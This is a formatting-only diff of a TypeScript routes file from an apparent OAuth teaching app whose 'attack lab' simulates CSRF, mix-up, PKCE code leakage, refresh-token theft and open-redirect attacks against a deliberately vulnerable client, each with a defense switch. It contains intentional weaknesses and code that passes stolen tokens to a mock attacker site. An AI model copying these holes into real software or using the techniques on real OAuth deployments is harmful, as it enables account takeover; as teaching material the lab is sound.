@@ -15,7 +15,12 @@ import { csrfToken, verifyCsrf } from '@oauth-demo/web';
 import { type FlowKind, currentTrace, describeExchange, newSpanId, startTrace } from '@oauth-demo/teaching';
 import type { AppContext } from '../context.js';
 import { CallbackRejected } from '../errors.js';
-import { buildLabAuthorizationRequest, exchangeLabCodeForTokens, redeemLabCode, refreshLab } from '../lab/lab_client.js';
+import {
+  buildLabAuthorizationRequest,
+  exchangeLabCodeForTokens,
+  redeemLabCode,
+  refreshLab,
+} from '../lab/lab_client.js';
 import { SCENARIOS, type Scenario, findScenario } from '../lab/scenarios.js';
 import { type LabState, addPending, isDefenseOn, newLabState, recordOutcome, takePending } from '../lab/state.js';
 
@@ -50,8 +55,12 @@ export function labRoutes(ctx: AppContext): Router {
     const url = `${attacker.internalUrl}/api/loot/${encodeURIComponent(run)}`;
     // With a request: part of a run, on its timeline. Without (showing a page): not recorded.
     const answer = req
-      ? await callMallory(req, 'The lab asks Mallory’s site what she got (the lab’s scoreboard, not OAuth)', url, { method: 'GET' })
-      : await fetch(url, { signal: AbortSignal.timeout(5000) }).then(async (r) => ({ status: r.status, body: (await r.json()) as unknown })).catch(() => null);
+      ? await callMallory(req, 'The lab asks Mallory’s site what she got (the lab’s scoreboard, not OAuth)', url, {
+          method: 'GET',
+        })
+      : await fetch(url, { signal: AbortSignal.timeout(5000) })
+          .then(async (r) => ({ status: r.status, body: (await r.json()) as unknown }))
+          .catch(() => null);
     if (!answer) return null; // her site is not running
     const body = (answer.body ?? {}) as { loot?: MalloryLoot[] };
     return Array.isArray(body.loot) ? body.loot : [];
@@ -61,7 +70,23 @@ export function labRoutes(ctx: AppContext): Router {
    * The timeline's fifth lane (packages/teaching timeline.ts): an exchange with Mallory's site, as the printer saw
    * it, filed under this browser's current lab flow. The timeline masks secrets in it like any other.
    */
-  function recordMallory(req: Request, exchange: { from: 'browser' | 'printer' | 'mallory'; to: 'browser' | 'printer' | 'mallory'; channel: 'front' | 'back'; label: string; method: string; url: string; status?: number; requestHeaders?: Record<string, string>; requestBody?: string; responseBody?: string; step?: number; at?: number }): void {
+  function recordMallory(
+    req: Request,
+    exchange: {
+      from: 'browser' | 'printer' | 'mallory';
+      to: 'browser' | 'printer' | 'mallory';
+      channel: 'front' | 'back';
+      label: string;
+      method: string;
+      url: string;
+      status?: number;
+      requestHeaders?: Record<string, string>;
+      requestBody?: string;
+      responseBody?: string;
+      step?: number;
+      at?: number;
+    },
+  ): void {
     const trace = currentTrace(req);
     if (!trace) return;
     ctx.recorder.add({
@@ -75,31 +100,70 @@ export function labRoutes(ctx: AppContext): Router {
       label: exchange.label,
       at: exchange.at ?? Date.now(),
       durationMs: exchange.at ? Date.now() - exchange.at : 0,
-      request: { method: exchange.method, url: exchange.url, headers: exchange.requestHeaders ?? {}, ...(exchange.requestBody ? { body: exchange.requestBody } : {}) },
-      response: { ...(exchange.status !== undefined ? { status: exchange.status } : {}), headers: {}, ...(exchange.responseBody ? { body: exchange.responseBody } : {}) },
+      request: {
+        method: exchange.method,
+        url: exchange.url,
+        headers: exchange.requestHeaders ?? {},
+        ...(exchange.requestBody ? { body: exchange.requestBody } : {}),
+      },
+      response: {
+        ...(exchange.status !== undefined ? { status: exchange.status } : {}),
+        headers: {},
+        ...(exchange.responseBody ? { body: exchange.responseBody } : {}),
+      },
     });
   }
 
   /** A back-channel call from the lab copy to Mallory's site, recorded on the timeline. Network failures: null. */
-  async function callMallory(req: Request, label: string, url: string, init: { method: 'GET' | 'POST'; headers?: Record<string, string>; body?: string }): Promise<{ status: number; body: unknown } | null> {
+  async function callMallory(
+    req: Request,
+    label: string,
+    url: string,
+    init: { method: 'GET' | 'POST'; headers?: Record<string, string>; body?: string },
+  ): Promise<{ status: number; body: unknown } | null> {
     const at = Date.now();
     try {
       const response = await fetch(url, { ...init, signal: AbortSignal.timeout(ctx.config.httpTimeoutMs) });
       const text = await response.text();
-      recordMallory(req, { from: 'printer', to: 'mallory', channel: 'back', label, method: init.method, url, status: response.status, requestHeaders: init.headers ?? {}, ...(init.body ? { requestBody: init.body } : {}), responseBody: text.slice(0, 4000), at });
+      recordMallory(req, {
+        from: 'printer',
+        to: 'mallory',
+        channel: 'back',
+        label,
+        method: init.method,
+        url,
+        status: response.status,
+        requestHeaders: init.headers ?? {},
+        ...(init.body ? { requestBody: init.body } : {}),
+        responseBody: text.slice(0, 4000),
+        at,
+      });
       try {
         return { status: response.status, body: JSON.parse(text) as unknown };
       } catch {
         return { status: response.status, body: null };
       }
     } catch {
-      recordMallory(req, { from: 'printer', to: 'mallory', channel: 'back', label: `${label} (no answer)`, method: init.method, url, at });
+      recordMallory(req, {
+        from: 'printer',
+        to: 'mallory',
+        channel: 'back',
+        label: `${label} (no answer)`,
+        method: init.method,
+        url,
+        at,
+      });
       return null;
     }
   }
 
   /** A call to Mallory's site for the lab's premises (scenario 7: handing her the stolen token), on the timeline. */
-  async function tellMallory(req: Request, path: string, form: Record<string, string>, label: string): Promise<{ success: boolean; summary: string } | null> {
+  async function tellMallory(
+    req: Request,
+    path: string,
+    form: Record<string, string>,
+    label: string,
+  ): Promise<{ success: boolean; summary: string } | null> {
     const answer = await callMallory(req, label, `${attacker.internalUrl}${path}`, {
       method: 'POST',
       headers: { 'content-type': 'application/x-www-form-urlencoded' },
@@ -118,13 +182,28 @@ export function labRoutes(ctx: AppContext): Router {
   /** Each run of a scenario is a flow of its own on the timeline. */
   function startLabTrace(req: Request, res: Response, scenario: Scenario, defenseOn: boolean): void {
     const kind: FlowKind = scenario.id === 'device' ? 'device_code' : 'authorization_code';
-    const trace = startTrace(req, kind, `Attack lab ${scenario.number}: ${scenario.title}${scenario.defense ? ` (defense ${defenseOn ? 'on' : 'off'})` : ''}`);
-    describeExchange(res, { key: trace.id, from: 'browser', channel: 'front', label: `You press “Run the attack” (${scenario.title})` });
+    const trace = startTrace(
+      req,
+      kind,
+      `Attack lab ${scenario.number}: ${scenario.title}${scenario.defense ? ` (defense ${defenseOn ? 'on' : 'off'})` : ''}`,
+    );
+    describeExchange(res, {
+      key: trace.id,
+      from: 'browser',
+      channel: 'front',
+      label: `You press “Run the attack” (${scenario.title})`,
+    });
   }
 
   router.get('/lab', (req, res) => {
     const lab = labOf(req);
-    res.render('lab', { title: 'Attack lab', activeSteps: [], scenarios: [...SCENARIOS].sort((a, b) => a.number - b.number), lab, isDefenseOn });
+    res.render('lab', {
+      title: 'Attack lab',
+      activeSteps: [],
+      scenarios: [...SCENARIOS].sort((a, b) => a.number - b.number),
+      lab,
+      isDefenseOn,
+    });
   });
 
   // Scenario 3's premise: a careless "continue to" redirect of the lab copy, as many sites have (an open
@@ -138,7 +217,8 @@ export function labRoutes(ctx: AppContext): Router {
       throw new NotFound('Nowhere to go.');
     }
     if (target.protocol !== 'http:' && target.protocol !== 'https:') throw new NotFound('Nowhere to go.');
-    for (const [name, value] of Object.entries(req.query)) if (name !== 'to' && typeof value === 'string') target.searchParams.append(name, value);
+    for (const [name, value] of Object.entries(req.query))
+      if (name !== 'to' && typeof value === 'string') target.searchParams.append(name, value);
     res.redirect(303, target.href);
   });
 
@@ -147,9 +227,23 @@ export function labRoutes(ctx: AppContext): Router {
   router.get('/lab/implicit-callback', (req, res) => {
     const lab = labOf(req);
     const trace = currentTrace(req);
-    if (trace) describeExchange(res, { key: trace.id, from: 'browser', channel: 'front', step: 4, label: 'The answer arrives at the lab copy’s page (and Mallory’s widget loads)' });
-    res.setHeader('Content-Security-Policy', `default-src 'self'; script-src 'self' ${attacker.publicUrl}; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`);
-    res.render('lab_implicit', { title: 'Connected', activeSteps: [6], widget: `${attacker.publicUrl}/filters/widget.js?run=${lab.run}` });
+    if (trace)
+      describeExchange(res, {
+        key: trace.id,
+        from: 'browser',
+        channel: 'front',
+        step: 4,
+        label: 'The answer arrives at the lab copy’s page (and Mallory’s widget loads)',
+      });
+    res.setHeader(
+      'Content-Security-Policy',
+      `default-src 'self'; script-src 'self' ${attacker.publicUrl}; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`,
+    );
+    res.render('lab_implicit', {
+      title: 'Connected',
+      activeSteps: [6],
+      widget: `${attacker.publicUrl}/filters/widget.js?run=${lab.run}`,
+    });
   });
 
   // The lab copy's redirect_uri (step 4). Same order of checks as oauth/callback.ts: state, iss, error, code;
@@ -157,7 +251,14 @@ export function labRoutes(ctx: AppContext): Router {
   router.get('/lab/callback', async (req, res) => {
     const lab = labOf(req);
     const trace = currentTrace(req);
-    if (trace) describeExchange(res, { key: trace.id, from: 'browser', channel: 'front', step: 4, label: 'The answer arrives at the lab copy’s redirect_uri' });
+    if (trace)
+      describeExchange(res, {
+        key: trace.id,
+        from: 'browser',
+        channel: 'front',
+        step: 4,
+        label: 'The answer arrives at the lab copy’s redirect_uri',
+      });
     const query = req.query as ParamSource;
     const metadata = await ctx.metadata.get();
     const state = optionalParam(query, 'state');
@@ -171,14 +272,19 @@ export function labRoutes(ctx: AppContext): Router {
       if (defenseOn) {
         recordOutcome(lab, 'csrf', true, {
           attackWorked: false,
-          summary: 'Refused: the answer has no state, so it cannot belong to a request this browser started. No token was requested.',
+          summary:
+            'Refused: the answer has no state, so it cannot belong to a request this browser started. No token was requested.',
           details: ['The lab copy accepts an answer only with the state it stored in your session (RFC 9700 §4.7).'],
         });
         res.redirect(303, '/lab/csrf#results');
         return;
       }
       if (iss !== metadata.issuer || code === undefined || error !== undefined) {
-        recordOutcome(lab, 'csrf', false, { attackWorked: false, summary: 'The answer was not a code from our auth server.', details: [] });
+        recordOutcome(lab, 'csrf', false, {
+          attackWorked: false,
+          summary: 'The answer was not a code from our auth server.',
+          details: [],
+        });
         res.redirect(303, '/lab/csrf#results');
         return;
       }
@@ -192,9 +298,15 @@ export function labRoutes(ctx: AppContext): Router {
           ? {
               attackWorked: true,
               summary: `Your lab printer is now connected to the Drive account of “${result.owner}”, an account you never signed in to.`,
-              details: [`Photos it would print from: ${result.titles.length ? result.titles.join(', ') : '(none yet)'}`],
+              details: [
+                `Photos it would print from: ${result.titles.length ? result.titles.join(', ') : '(none yet)'}`,
+              ],
             }
-          : { attackWorked: false, summary: `The token endpoint refused the code: ${result.error.code}.`, details: [result.error.description ?? ''] },
+          : {
+              attackWorked: false,
+              summary: `The token endpoint refused the code: ${result.error.code}.`,
+              details: [result.error.description ?? ''],
+            },
       );
       res.redirect(303, '/lab/csrf#results');
       return;
@@ -220,19 +332,33 @@ export function labRoutes(ctx: AppContext): Router {
       }
       if (code === undefined) throw new NotFound('The answer has no code.');
       // Defense off: the code goes to the token endpoint of the server the lab copy believes it talks to.
-      const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: registration.redirectUri, client_id: registration.publicClientId });
-      if (pending.code_verifier) form.set('code_verifier', pending.code_verifier);
-      const answer = await callMallory(req, 'Step 5, to the wrong server: the real code and its code_verifier go to Evil AS’s token endpoint', `${registration.evilAs.tokenEndpoint}?run=${lab.run}`, {
-        method: 'POST',
-        headers: { 'content-type': 'application/x-www-form-urlencoded' },
-        body: form.toString(),
+      const form = new URLSearchParams({
+        grant_type: 'authorization_code',
+        code,
+        redirect_uri: registration.redirectUri,
+        client_id: registration.publicClientId,
       });
-      const hers = ((await malloryLoot(req, lab.run)) ?? []).filter((l) => l.scenario === 'mixup' && l.at >= pending.createdAt && l.success).at(-1);
+      if (pending.code_verifier) form.set('code_verifier', pending.code_verifier);
+      const answer = await callMallory(
+        req,
+        'Step 5, to the wrong server: the real code and its code_verifier go to Evil AS’s token endpoint',
+        `${registration.evilAs.tokenEndpoint}?run=${lab.run}`,
+        {
+          method: 'POST',
+          headers: { 'content-type': 'application/x-www-form-urlencoded' },
+          body: form.toString(),
+        },
+      );
+      const hers = ((await malloryLoot(req, lab.run)) ?? [])
+        .filter((l) => l.scenario === 'mixup' && l.at >= pending.createdAt && l.success)
+        .at(-1);
       recordOutcome(lab, 'mixup', pending.defenseOn, {
         attackWorked: hers !== undefined,
         summary: hers ? `Mallory: ${hers.summary}` : 'Mallory got nothing.',
         details: [
-          answer?.status === 200 ? 'Your import even “worked”: Evil AS passed the real tokens back, so nothing looked wrong.' : `Evil AS answered ${answer ? `HTTP ${answer.status}` : 'nothing'}.`,
+          answer?.status === 200
+            ? 'Your import even “worked”: Evil AS passed the real tokens back, so nothing looked wrong.'
+            : `Evil AS answered ${answer ? `HTTP ${answer.status}` : 'nothing'}.`,
           ...(hers ? hers.details : []),
         ],
       });
@@ -240,12 +366,20 @@ export function labRoutes(ctx: AppContext): Router {
       return;
     }
     if (iss !== metadata.issuer) {
-      recordOutcome(lab, pending.scenario, pending.defenseOn, { attackWorked: false, summary: `Refused: the answer came from “${iss ?? 'nobody'}”, not from our auth server.`, details: [] });
+      recordOutcome(lab, pending.scenario, pending.defenseOn, {
+        attackWorked: false,
+        summary: `Refused: the answer came from “${iss ?? 'nobody'}”, not from our auth server.`,
+        details: [],
+      });
       res.redirect(303, `/lab/${pending.scenario}#results`);
       return;
     }
     if (error !== undefined || code === undefined) {
-      recordOutcome(lab, pending.scenario, pending.defenseOn, { attackWorked: false, summary: `You answered ${error ?? 'without a code'}: nothing to steal.`, details: [] });
+      recordOutcome(lab, pending.scenario, pending.defenseOn, {
+        attackWorked: false,
+        summary: `You answered ${error ?? 'without a code'}: nothing to steal.`,
+        details: [],
+      });
       res.redirect(303, `/lab/${pending.scenario}#results`);
       return;
     }
@@ -253,9 +387,18 @@ export function labRoutes(ctx: AppContext): Router {
       // The lab copy's careless "almost done" page, shown at the callback URL (code in the address) BEFORE it
       // redeems the code. It embeds Mallory's ad, and sends the full address as Referer (RFC 9700 §4.2.1):
       // that is the leak; the switch is only about PKCE.
-      lab.received = { scenario: 'pkce', code, defenseOn: pending.defenseOn, createdAt: Date.now(), ...(pending.code_verifier ? { code_verifier: pending.code_verifier } : {}) };
+      lab.received = {
+        scenario: 'pkce',
+        code,
+        defenseOn: pending.defenseOn,
+        createdAt: Date.now(),
+        ...(pending.code_verifier ? { code_verifier: pending.code_verifier } : {}),
+      };
       res.setHeader('Referrer-Policy', 'unsafe-url');
-      res.setHeader('Content-Security-Policy', `default-src 'self'; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`);
+      res.setHeader(
+        'Content-Security-Policy',
+        `default-src 'self'; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`,
+      );
       res.render('lab_received', {
         title: 'Almost done',
         activeSteps: [4],
@@ -265,34 +408,62 @@ export function labRoutes(ctx: AppContext): Router {
       return;
     }
     if (pending.scenario === 'audience') {
-      const exchanged = await exchangeLabCodeForTokens(ctx.tokenEndpoint, { ...registration, publicClientId: registration.filtersClientId }, code, pending.code_verifier);
-      if (!exchanged.ok) throw new NotFound(`The lab copy could not get its token: ${exchanged.error.code}. Run the attack again.`);
+      const exchanged = await exchangeLabCodeForTokens(
+        ctx.tokenEndpoint,
+        { ...registration, publicClientId: registration.filtersClientId },
+        code,
+        pending.code_verifier,
+      );
+      if (!exchanged.ok)
+        throw new NotFound(`The lab copy could not get its token: ${exchanged.error.code}. Run the attack again.`);
       // The legitimate call: the token goes to the API it was made for. (`drive` is the learner's switch, for her.)
-      const called = await callMallory(req, 'Step 7, to the API the token is for: Mallory’s “Free photo filters API”', `${registration.filtersApi}?run=${lab.run}&drive=${pending.defenseOn ? 'real' : 'lab'}`, {
-        method: 'POST',
-        headers: { authorization: `Bearer ${exchanged.tokens.access_token}` },
-      });
-      const hers = ((await malloryLoot(req, lab.run)) ?? []).filter((l) => l.scenario === 'audience' && l.at >= pending.createdAt).at(-1);
+      const called = await callMallory(
+        req,
+        'Step 7, to the API the token is for: Mallory’s “Free photo filters API”',
+        `${registration.filtersApi}?run=${lab.run}&drive=${pending.defenseOn ? 'real' : 'lab'}`,
+        {
+          method: 'POST',
+          headers: { authorization: `Bearer ${exchanged.tokens.access_token}` },
+        },
+      );
+      const hers = ((await malloryLoot(req, lab.run)) ?? [])
+        .filter((l) => l.scenario === 'audience' && l.at >= pending.createdAt)
+        .at(-1);
       recordOutcome(lab, 'audience', pending.defenseOn, {
         attackWorked: hers?.success === true,
         summary: hers ? `Mallory: ${hers.summary}` : 'Mallory’s API was not called (is her site running?).',
-        details: [called?.status === 200 ? 'The filters API answered the printer normally: nothing looked wrong.' : 'The filters API did not answer.', ...(hers ? hers.details : [])],
+        details: [
+          called?.status === 200
+            ? 'The filters API answered the printer normally: nothing looked wrong.'
+            : 'The filters API did not answer.',
+          ...(hers ? hers.details : []),
+        ],
       });
       res.redirect(303, '/lab/audience#results');
       return;
     }
     if (pending.scenario === 'refresh') {
       const exchanged = await exchangeLabCodeForTokens(ctx.tokenEndpoint, registration, code, pending.code_verifier);
-      if (!exchanged.ok) throw new NotFound(`The lab copy could not get its tokens: ${exchanged.error.code}. Run the attack again.`);
+      if (!exchanged.ok)
+        throw new NotFound(`The lab copy could not get its tokens: ${exchanged.error.code}. Run the attack again.`);
       const refreshToken = exchanged.tokens.refresh_token;
       if (!refreshToken) {
-        recordOutcome(lab, 'refresh', pending.defenseOn, { attackWorked: false, summary: 'No refresh token was issued (offline access was not allowed): nothing to steal.', details: [] });
+        recordOutcome(lab, 'refresh', pending.defenseOn, {
+          attackWorked: false,
+          summary: 'No refresh token was issued (offline access was not allowed): nothing to steal.',
+          details: [],
+        });
         res.redirect(303, '/lab/refresh#results');
         return;
       }
       lab.refresh = { refreshToken, defenseOn: pending.defenseOn, createdAt: Date.now() };
       // The theft (the premise, not the lesson): the lab hands the refresh token to Mallory's site, which uses it.
-      const theft = await tellMallory(req, '/stolen/refresh-token', { run: lab.run, refresh_token: refreshToken, endpoint: pending.defenseOn ? 'real' : 'lab' }, 'The theft (the lab’s premise): Mallory gets the refresh token');
+      const theft = await tellMallory(
+        req,
+        '/stolen/refresh-token',
+        { run: lab.run, refresh_token: refreshToken, endpoint: pending.defenseOn ? 'real' : 'lab' },
+        'The theft (the lab’s premise): Mallory gets the refresh token',
+      );
       res.render('lab_refresh', { title: 'Connected, and robbed', activeSteps: [6], theft, csrf: csrfToken(req) });
       return;
     }
@@ -338,7 +509,12 @@ export function labRoutes(ctx: AppContext): Router {
     if (scenario.id === 'audience') {
       // You connect the lab copy to its filters partner: a token whose aud is the partner's API.
       const metadata = await ctx.metadata.get();
-      const request = buildLabAuthorizationRequest(metadata, { ...registration, publicClientId: registration.filtersClientId }, 'audience', { publicClient: true, pkce: true, defenseOn });
+      const request = buildLabAuthorizationRequest(
+        metadata,
+        { ...registration, publicClientId: registration.filtersClientId },
+        'audience',
+        { publicClient: true, pkce: true, defenseOn },
+      );
       addPending(lab, request.pending);
       res.redirect(303, request.url);
       return;
@@ -347,13 +523,23 @@ export function labRoutes(ctx: AppContext): Router {
       // Mallory's site starts a device flow on her "kiosk" and shows you its code.
       lab.started ??= {};
       lab.started.device = { defenseOn: true, at: Date.now() };
-      sendToMallory(req, res, `${attacker.publicUrl}/kiosk/${lab.run}`, 'You visit Mallory’s “you won free prints” page');
+      sendToMallory(
+        req,
+        res,
+        `${attacker.publicUrl}/kiosk/${lab.run}`,
+        'You visit Mallory’s “you won free prints” page',
+      );
       return;
     }
     if (scenario.id === 'implicit') {
       // The lab copy as a browser app: Implicit (response_type=token) when the defense is off, code + PKCE when on.
       const metadata = await ctx.metadata.get();
-      const request = buildLabAuthorizationRequest(metadata, { ...registration, redirectUri: implicitRedirectUri }, 'implicit', { publicClient: true, pkce: defenseOn, defenseOn });
+      const request = buildLabAuthorizationRequest(
+        metadata,
+        { ...registration, redirectUri: implicitRedirectUri },
+        'implicit',
+        { publicClient: true, pkce: defenseOn, defenseOn },
+      );
       const url = new URL(request.url);
       if (!defenseOn) url.searchParams.set('response_type', 'token'); // RFC 6749 §4.2.1 (no PKCE: there is no token request)
       lab.started ??= {};
@@ -366,17 +552,27 @@ export function labRoutes(ctx: AppContext): Router {
       // copy of the endpoint that compares redirect_uri by prefix (lab/loose_redirect.ts there).
       lab.started ??= {};
       lab.started.redirect = { defenseOn, at: Date.now() };
-      sendToMallory(req, res, `${attacker.publicUrl}/redirect/${lab.run}?endpoint=${defenseOn ? 'real' : 'lab'}`, 'You visit Mallory’s page with her “Sign in with Photo Printer” link');
+      sendToMallory(
+        req,
+        res,
+        `${attacker.publicUrl}/redirect/${lab.run}?endpoint=${defenseOn ? 'real' : 'lab'}`,
+        'You visit Mallory’s page with her “Sign in with Photo Printer” link',
+      );
       return;
     }
     if (scenario.id === 'mixup') {
       // You pick "Free photo filters" in the lab copy: its request goes to Mallory's Evil AS (with PKCE and state,
       // which will not help). `run` names your run on her site.
-      const request = buildLabAuthorizationRequest({ authorization_endpoint: `${registration.evilAs.authorizationEndpoint}?run=${lab.run}` }, registration, 'mixup', {
-        publicClient: true,
-        pkce: true,
-        defenseOn,
-      });
+      const request = buildLabAuthorizationRequest(
+        { authorization_endpoint: `${registration.evilAs.authorizationEndpoint}?run=${lab.run}` },
+        registration,
+        'mixup',
+        {
+          publicClient: true,
+          pkce: true,
+          defenseOn,
+        },
+      );
       addPending(lab, { ...request.pending, issuer: registration.evilAs.issuer });
       sendToMallory(req, res, request.url, 'Step 2, to the server you picked: Evil AS (Mallory’s)');
       return;
@@ -384,7 +580,12 @@ export function labRoutes(ctx: AppContext): Router {
     if (scenario.id === 'refresh') {
       // You connect the public lab copy with offline_access, so it gets a refresh token.
       const metadata = await ctx.metadata.get();
-      const request = buildLabAuthorizationRequest(metadata, registration, 'refresh', { publicClient: true, pkce: true, defenseOn, scope: 'photos.read offline_access' });
+      const request = buildLabAuthorizationRequest(metadata, registration, 'refresh', {
+        publicClient: true,
+        pkce: true,
+        defenseOn,
+        scope: 'photos.read offline_access',
+      });
       addPending(lab, request.pending);
       res.redirect(303, request.url);
       return;
@@ -392,7 +593,11 @@ export function labRoutes(ctx: AppContext): Router {
     if (scenario.id === 'pkce') {
       // You import with the lab copy as a public client; PKCE only if the switch is on.
       const metadata = await ctx.metadata.get();
-      const request = buildLabAuthorizationRequest(metadata, registration, 'pkce', { publicClient: true, pkce: defenseOn, defenseOn });
+      const request = buildLabAuthorizationRequest(metadata, registration, 'pkce', {
+        publicClient: true,
+        pkce: defenseOn,
+        defenseOn,
+      });
       addPending(lab, request.pending);
       res.redirect(303, request.url);
       return;
@@ -434,14 +639,24 @@ export function labRoutes(ctx: AppContext): Router {
     delete lab.refresh;
     if (!held) throw new NotFound('There is no refresh token waiting: run the attack again.');
     const mine = await refreshLab(ctx.tokenEndpoint, registration, held.refreshToken, held.defenseOn);
-    const again = await tellMallory(req, '/stolen/refresh-again', { run: lab.run }, 'Later: Mallory tries her refresh token again');
+    const again = await tellMallory(
+      req,
+      '/stolen/refresh-again',
+      { run: lab.run },
+      'Later: Mallory tries her refresh token again',
+    );
     const yours = mine.ok
       ? 'Your printer refreshed: it got a new access token and nothing looked wrong.'
       : `Your printer must connect again: its refresh was refused (${mine.error.code}). The auth server saw a refresh token used a second time, so a copy exists somewhere; it revoked the whole family, yours and the thief’s (RFC 9700 §4.14.2).`;
     recordOutcome(lab, 'refresh', held.defenseOn, {
       attackWorked: again?.success === true,
-      summary: again?.success ? `Mallory still has access. ${again.summary}` : `Mallory lost access. ${again ? again.summary : 'Her site did not answer.'}`,
-      details: [yours, 'Her first use, right after the theft, worked either way: rotation detects a stolen token on its next reuse; it cannot prevent the first one.'],
+      summary: again?.success
+        ? `Mallory still has access. ${again.summary}`
+        : `Mallory lost access. ${again ? again.summary : 'Her site did not answer.'}`,
+      details: [
+        yours,
+        'Her first use, right after the theft, worked either way: rotation detects a stolen token on its next reuse; it cannot prevent the first one.',
+      ],
     });
     res.redirect(303, '/lab/refresh#results');
   });
@@ -455,7 +670,9 @@ export function labRoutes(ctx: AppContext): Router {
       publicClient: true,
       ...(received.code_verifier ? { code_verifier: received.code_verifier } : {}),
     });
-    const hers = ((await malloryLoot(req, lab.run)) ?? []).filter((l) => l.scenario === 'pkce' && l.at >= received.createdAt).at(-1);
+    const hers = ((await malloryLoot(req, lab.run)) ?? [])
+      .filter((l) => l.scenario === 'pkce' && l.at >= received.createdAt)
+      .at(-1);
     const yours = mine.ok
       ? `Your import worked: ${mine.owner}’s ${mine.titles.length} photos.`
       : `Your own import failed (${mine.error.code}): Mallory had redeemed the code first. A code works once; seeing it again, the auth server refused your printer and revoked the tokens it had issued for it, hers included (RFC 6749 §4.1.2), but she had already read your photo list.`;
